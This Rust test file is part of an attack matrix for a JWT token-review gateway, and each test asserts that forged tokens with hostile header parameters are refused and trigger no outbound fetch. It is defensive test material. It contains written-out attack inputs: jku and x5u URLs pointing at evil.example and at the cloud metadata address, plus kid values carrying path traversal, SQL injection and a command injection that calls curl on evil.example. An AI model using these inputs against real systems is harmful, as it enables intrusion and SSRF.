//! Attack matrix, section B (header parameters). `jku` pointing at the issuer itself is also in
//! `token_review.rs` (`a_key_reference_in_the_header_is_rejected_and_never_fetched`).

use jsonwebtoken::Algorithm;
use serde_json::json;

use crate::attack_kit::*;
use crate::helpers::*;

/// B01 (CVE-2018-0114): the attacker's own key embedded as `jwk`, the token signed with it.
/// Refused for the header alone; nothing is fetched.
#[tokio::test]
async fn embedded_jwk_header_is_rejected() {
    let app = spawn_app().await;
    let attacker = Forger::new(Algorithm::RS256, "rs256-1");
    let before = app.issuer.requests();
    let header = json!({"alg": "RS256", "kid": "rs256-1", "jwk": attacker.jwk}).to_string();
    let token = attacker.sign_bytes(header.as_bytes(), app.payload("mallory").as_bytes());
    app.all_refused_because(false, "header_not_allowed", &[token]).await;
    assert_eq!(app.issuer.requests(), before);
}

/// B02: `jku` at an attacker host, at cloud metadata, and at a listener we watch: refused, and
/// zero connections anywhere.
#[tokio::test]
async fn jku_header_causes_no_outbound_request() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let trap = Tripwire::new();
    let before = app.issuer.requests();
    let payload = app.payload("alice");
    let tokens: Vec<String> =
        [trap.url("/jwks"), "http://169.254.169.254/latest/meta-data/".into(), "https://evil.example/jwks".into()]
            .iter()
            .map(|u| {
                rs.sign_bytes(
                    json!({"alg": "RS256", "kid": rs.kid, "jku": u}).to_string().as_bytes(),
                    payload.as_bytes(),
                )
            })
            .collect();
    app.all_refused_because(false, "header_not_allowed", &tokens).await;
    trap.assert_untouched(&app, before).await;
}

/// B03: `x5u` at a watched listener, and a self-signed chain in `x5c`.
#[tokio::test]
async fn x5u_and_x5c_headers_cause_no_fetch_and_no_chain_building() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let trap = Tripwire::new();
    let cert = tokenreview_gateway::certs::Ca::new("attacker", 1).unwrap().pair.cert_pem;
    let der: String = cert.lines().filter(|l| !l.starts_with("-----")).collect();
    let payload = app.payload("alice");
    let before = app.issuer.requests();
    let tokens: Vec<String> = [
        json!({"alg": "RS256", "kid": rs.kid, "x5u": trap.url("/cert.pem")}),
        json!({"alg": "RS256", "kid": rs.kid, "x5c": [der]}),
        json!({"alg": "RS256", "x5c": [der]}),
    ]
    .iter()
    .map(|h| rs.sign_bytes(h.to_string().as_bytes(), payload.as_bytes()))
    .collect();
    app.all_refused_because(false, "header_not_allowed", &tokens).await;
    trap.assert_untouched(&app, before).await;
}

/// B04: hostile kids are opaque map keys: refused as unknown (at most one JWKS fetch per
/// cooldown for all of them), an overlong one refused before any lookup, and the gateway
/// keeps answering.
#[tokio::test]
async fn hostile_kids_are_only_looked_up_never_interpreted() {
    let app = spawn_app().await;
    let jwks_before = app.issuer.jwks_requests();
    let kids = [
        "../../../../dev/null",
        "x' UNION SELECT '1';--",
        "$(curl evil.example)`id`|;&",
        "nul\u{0}byte",
        "line\r\nbreak",
        "ünïcødé-🔑",
        "https://evil.example/jwks",
    ];
    let tokens: Vec<String> = kids.iter().map(|k| app.token_with_unknown_kid(k)).collect();
    app.all_refused_because(true, "unknown_kid", &tokens).await;
    assert!(app.issuer.jwks_requests() - jwks_before <= 1, "one refresh per cooldown at most");
    let overlong = app.token_with_unknown_kid(&"k".repeat(10 * 1024));
    app.all_refused_because(false, "malformed_token", &[overlong]).await;
    assert_eq!(app.review(&app.token("rs256-1", "alice")).await, authenticated(V1, "alice"));
}

/// B06: RFC 7797 unencoded payload (`b64: false` with `crit`), genuinely signed.
#[tokio::test]
async fn unencoded_payload_b64_false_is_rejected() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let payload = app.payload("alice");
    let tokens: Vec<String> = [
        json!({"alg": "RS256", "kid": rs.kid, "b64": false, "crit": ["b64"]}),
        json!({"alg": "RS256", "kid": rs.kid, "b64": false}),
        json!({"alg": "RS256", "kid": rs.kid, "crit": ["exp"]}),
    ]
    .iter()
    .map(|h| rs.sign_bytes(h.to_string().as_bytes(), payload.as_bytes()))
    .collect();
    app.all_refused_because(false, "header_not_allowed", &tokens).await;
}

/// B07, our policy: a custom header parameter that is not a string (an IdP adding one) does not
/// lock users out; it is ignored like any unknown parameter. The token must still verify.
#[tokio::test]
async fn non_string_custom_header_parameters_are_ignored() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let payload = app.payload("alice");
    for extra in [json!(1), json!({"nested": [1, 2]}), json!(null), json!(true)] {
        let header = json!({"alg": "RS256", "kid": rs.kid, "typ": "JWT", "x-vendor": extra});
        let token = rs.sign_bytes(header.to_string().as_bytes(), payload.as_bytes());
        assert_eq!(app.review(&token).await, authenticated(V1, "alice"), "x-vendor {extra}");
    }
}

/// B09: a nested JWT (`cty: JWT`, any case) whose payload is another token.
#[tokio::test]
async fn nested_jwt_is_rejected() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let inner = app.token("rs256-1", "alice");
    let tokens: Vec<String> = ["JWT", "jwt", "Jwt"]
        .iter()
        .map(|cty| {
            rs.sign_bytes(json!({"alg": "RS256", "kid": rs.kid, "cty": cty}).to_string().as_bytes(), inner.as_bytes())
        })
        .collect();
    app.all_refused_because(false, "header_not_allowed", &tokens).await;
}

/// B11: duplicate header keys, genuinely signed, in both orders.
#[tokio::test]
async fn duplicate_header_keys_are_rejected() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let payload = app.payload("alice");
    let tokens: Vec<String> = [
        r#"{"alg":"RS256","alg":"HS256","kid":"forge-rs"}"#,
        r#"{"alg":"HS256","alg":"RS256","kid":"forge-rs"}"#,
        r#"{"alg":"RS256","kid":"rs256-1","kid":"forge-rs"}"#,
        r#"{"alg":"RS256","kid":"forge-rs","kid":"forge-rs"}"#,
    ]
    .iter()
    .map(|h| rs.sign_bytes_as(Algorithm::RS256, h.as_bytes(), payload.as_bytes()))
    .collect();
    app.all_refused_because(false, "malformed_token", &tokens).await;
}

/// B12: a 1 MB header with thousands of fields is refused on length alone (before any base64
/// or JSON work); one just under the cap is parsed and refused for its signature.
#[tokio::test]
async fn a_huge_header_is_rejected_before_decoding() {
    let app = spawn_app_with(|s| s.server.max_token_bytes = 16 * 1024).await;
    let fields: serde_json::Map<String, serde_json::Value> =
        (0..40_000).map(|i| (format!("f{i}"), json!("v"))).collect();
    let mut header = serde_json::Value::Object(fields);
    header["alg"] = json!("RS256");
    let huge = format!("{}.{}.{}", b64(header.to_string()), b64(app.payload("alice")), b64([1u8; 256]));
    assert!(huge.len() > 1_000_000 / 2);
    let mut body = review_body(V1, &huge);
    body["spec"]["token"] = json!(huge);
    // The request body cap (128 KiB) comes first for a 1 MB token...
    let (status, _) = app.post_review(&body).await;
    assert_eq!(status, 413);
    // ...and the token cap for one that fits the body.
    let big = format!(
        "{}.{}.{}",
        b64(format!(r#"{{"alg":"RS256","pad":"{}"}}"#, "p".repeat(20_000))),
        b64(app.payload("a")),
        b64([1u8; 256])
    );
    app.all_refused_because(false, "token_too_large", &[big]).await;
}

/// B13: JSON serialization, JWE (five parts), compact plus appended JSON, and other polyglots.
#[tokio::test]
async fn json_serialization_and_polyglots_are_rejected() {
    let app = spawn_app().await;
    let good = app.token("rs256-1", "alice");
    let p: Vec<&str> = good.split('.').collect();
    let general = json!({"payload": p[1], "signatures": [{"protected": p[0], "signature": p[2]}]}).to_string();
    let flattened = json!({"payload": p[1], "protected": p[0], "signature": p[2]}).to_string();
    let tokens = vec![
        general.clone(),
        flattened,
        format!("{good}.{}", b64("{}")),
        format!("{}.{}.{}.{}.{}", p[0], "", p[1], "", p[2]),
        format!("{good}{general}"),
        format!("{}.{}.{}", p[0], p[1], general),
        format!("{good}.{good}"),
    ];
    app.all_refused_because(false, "malformed_token", &tokens).await;
}

/// B, own case: header parameters that only JWE or key agreement define (RFC 7516 `enc`, `zip`;
/// RFC 7518 4.6-4.8 `epk`, `apu`, `apv`, `iv`, `tag`, `p2s`, `p2c`) on a genuinely signed JWS:
/// a token mixing JOSE types is refused, not interpreted.
#[tokio::test]
async fn jwe_and_key_agreement_header_parameters_are_rejected() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let payload = app.payload("alice");
    let tokens: Vec<String> = [
        ("enc", json!("A256GCM")),
        ("zip", json!("DEF")),
        ("epk", json!({"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"})),
        ("apu", json!("QWxpY2U")),
        ("apv", json!("Qm9i")),
        ("iv", json!("AAAAAAAAAAAAAAAA")),
        ("tag", json!("AAAAAAAAAAAAAAAAAAAAAA")),
        ("p2s", json!("c2FsdA")),
        ("p2c", json!(4096)),
    ]
    .into_iter()
    .map(|(name, value)| {
        let mut header = json!({"alg": "RS256", "kid": rs.kid});
        header[name] = value;
        rs.sign_bytes(header.to_string().as_bytes(), payload.as_bytes())
    })
    .collect();
    app.all_refused_because(false, "header_not_allowed", &tokens).await;
}

/// B11, at depth: a member name repeated inside a nested header parameter.
#[tokio::test]
async fn duplicate_names_nested_in_a_header_parameter_are_rejected() {
    let (app, rs, _) = app_with_forgers(|_| {}).await;
    let header = r#"{"alg":"RS256","kid":"forge-rs","ext":{"a":"1","a":"2"}}"#;
    let token = rs.sign_bytes(header.as_bytes(), app.payload("alice").as_bytes());
    app.all_refused_because(false, "malformed_token", &[token]).await;
}
